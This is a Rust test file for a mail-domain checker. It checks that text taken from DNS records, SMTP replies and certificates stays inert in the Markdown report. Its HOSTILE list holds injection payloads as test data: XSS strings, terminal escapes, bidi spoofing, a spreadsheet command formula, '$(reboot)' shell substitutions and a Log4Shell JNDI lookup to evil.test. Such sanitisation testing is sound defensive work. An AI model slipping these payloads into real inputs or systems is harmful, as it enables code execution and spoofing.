//! What strangers say, through the judgement and into Markdown: it stays text, wherever it was said. The page, badges
//! and the terminal have tests of their own (`frontend/src/tests.rs`, `cli/tests/many.rs`).

#![allow(clippy::indexing_slicing, clippy::unwrap_used, reason = "a test may fail")]

mod support;

use shared::evidence::{Answer, DnsAnswer, Fetched, Handshake, Record, Target, Tls};
use shared::inquiry::{RecordType, Script};
use shared::report::markdown;
use shared::{Inquiry, Report, Unseen};
use support::{CAREFUL, Server, Zone, run};

/// Texts that mean something to some reader: a browser, a terminal, Markdown, a table, a spreadsheet, a shell.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><iframe src=javascript:alert(1)>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "&lt;script&gt; &#60;b&#62;",
    "<!--",
    "]]>",
    "<![CDATA[",
    "[x](javascript:alert(1))",
    "![x](https://evil.test/track.png)",
    "<https://evil.test>",
    "```",
    "`````` # heading",
    "~~~",
    "| a | b |",
    "*bold* _em_ \\",
    "# heading",
    "&nbsp;",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.test\u{7}x",
    "\u{9b}2J",
    "\u{202e}txt.exe",
    "a\u{200b}b\u{feff}",
    "\u{2066}x\u{2069}",
    "\u{e0041}",
    "\0",
    "\u{8}\u{8}\u{8}",
    "\u{85}",
    "\u{2028}",
    "=cmd|' /C calc'!A0",
    "$(reboot)",
    "`reboot`",
    "%s%n%x",
    "{{7*7}}",
    "${jndi:ldap://evil.test}",
];

/// A domain all of whose texts say this.
fn says(text: &str) -> Report {
    let greeting = format!("220 {text} ESMTP Postfix 3.7.1 {text}");
    let refusal = format!("550 5.7.1 {text}");
    let ehlo = format!("250-{text}\n250-STARTTLS\n250-AUTH PLAIN {text}\n250-SIZE {text}\n250 {text}");
    let server = Server { greeting: &greeting, ehlo: &ehlo, postmaster: &refusal, null_sender: &refusal, ..CAREFUL };
    let zone = Zone::new("example.org MX 10 mx1.example.org\nmx1.example.org A 198.41.0.4");
    let odd = || Target::Odd(text.to_owned());
    let only = |record| Ok(Answer::Dns(DnsAnswer { records: vec![record], ..DnsAnswer::default() }));
    run("example.org", &|inquiry| match inquiry {
        Inquiry::Dns { name, record: RecordType::Txt, .. } => {
            let prefix = match name.as_str().split('.').next() {
                Some("_dmarc") => "v=DMARC1; p=none; rua=mailto:",
                Some("_mta-sts") => "v=STSv1; id=1; ",
                Some("_smtp") => "v=TLSRPTv1; rua=mailto:",
                Some("default") => "v=BIMI1; l=https://example.org/l.svg; ",
                _ if name.as_str().contains("_domainkey") => "v=DKIM1; p=",
                _ if name.as_str().starts_with("_mailsins") => "hello ",
                _ => "v=spf1 a:",
            };
            only(Record::Txt(vec![format!("{prefix}{text}")]))
        }
        Inquiry::Dns { record: RecordType::Ptr, .. } => only(Record::Ptr(odd())),
        Inquiry::Dns { record: RecordType::Ns, .. } => only(Record::Ns(odd())),
        Inquiry::Dns { name, record: RecordType::Mx, .. } if name.as_str() == "example.org" => {
            let exchange = Target::Name(support::name("mx1.example.org"));
            let records = vec![Record::Mx { preference: 5, exchange: odd() }, Record::Mx { preference: 10, exchange }];
            Ok(Answer::Dns(DnsAnswer { records, ..DnsAnswer::default() }))
        }
        Inquiry::Dns { name, record, .. } => Ok(zone.ask(name, *record)),
        Inquiry::Probe { port: 25, script: Script::SmtpSurvey | Script::SmtpRecipients { .. }, .. } => match inquiry {
            Inquiry::Probe { script, .. } => Ok(in_certificates(server.answer(script), text)),
            _ => Err(Unseen::Failed),
        },
        Inquiry::Probe { .. } => Err(Unseen::Refused),
        Inquiry::Mail => Err(Unseen::NoMailTest),
        Inquiry::Arrival { .. } | Inquiry::Owner { .. } => Err(Unseen::NeedsConsent),
        Inquiry::Fetch { .. } => {
            let body = format!("version: STSv1\nmode: {text}\nmx: {text}\n");
            Ok(Answer::Fetch(Fetched::new(200, text.as_bytes(), None, body.as_bytes())))
        }
    })
}

/// The same conversation, where each text of a certificate, and what the handshake came to, says this.
fn in_certificates(mut answer: Answer, text: &str) -> Answer {
    let Answer::Smtp(session) = &mut answer else { return answer };
    let Some(Tls { outcome: Handshake::Done(secured), .. }) = &mut session.tls else { return answer };
    secured.suite = text.to_owned();
    secured.unverified = Some(text.to_owned());
    for contents in secured.chain.iter_mut().filter_map(|certificate| certificate.contents.as_mut()) {
        for field in [&mut contents.subject, &mut contents.issuer, &mut contents.key, &mut contents.signature] {
            *field = text.to_owned();
        }
        contents.common_name = Some(text.to_owned());
        contents.names = vec![text.to_owned(), format!("*.{text}")];
    }
    answer
}

/// The lines that Markdown reads as markup: those outside of fenced blocks.
fn markup(text: &str) -> Vec<&str> {
    let mut fence: Option<&str> = None;
    let mut lines = Vec::new();
    for line in text.lines() {
        let ticks = line.strip_suffix(line.trim_start_matches('`')).unwrap_or_default();
        match fence {
            // CommonMark section 4.5: a fence at least as long ends it, and nothing may follow.
            Some(open) if line.len() == ticks.len() && ticks.len() >= open.len() => fence = None,
            Some(_) => {}
            None if ticks.len() >= 3 => fence = Some(ticks),
            None => lines.push(line),
        }
    }
    assert_eq!(fence, None, "a block stays open");
    lines
}

/// Is there one of these with no backslash before it?
fn unescaped(line: &str, of: &[char]) -> bool {
    let mut escaped = false;
    line.chars().any(|c| {
        let found = !escaped && of.contains(&c);
        escaped = c == '\\' && !escaped;
        found
    })
}

#[test]
fn what_strangers_say_stays_text() {
    let (mut heard, mut shown) = (0, 0);
    for text in HOSTILE {
        let report = says(text);
        let out = markdown(&report);
        assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
        for hidden in ['\u{202e}', '\u{200b}', '\u{feff}', '\u{2066}', '\u{e0041}', '\u{2028}'] {
            assert!(!out.contains(hidden), "{text:?}");
        }
        for line in markup(&out) {
            let table = line.starts_with('|');
            assert!(!unescaped(line, &['<', '[', '`']), "{text:?}: {line}");
            assert!(table || !unescaped(line, &['|']), "{text:?}: {line}");
        }
        let titles = markup(&out).iter().filter(|line| line.starts_with("# ")).count();
        assert_eq!(titles, 1, "{text:?}");
        heard += report.findings.iter().filter(|finding| finding.seen.contains(text)).count();
        let of_certificates =
            |finding: &&shared::Finding| finding.check.contains("certificate") && finding.seen.contains(text);
        shown += report.findings.iter().filter(of_certificates).count();
        let json = serde_json::to_string(&report).unwrap();
        assert!(serde_json::from_str::<Report>(&json).unwrap() == report, "{text:?}");
    }
    assert!(heard > 3 * HOSTILE.len(), "only {heard} findings quote what was said");
    assert!(shown > HOSTILE.len() / 2, "only {shown} findings quote certificates");
}
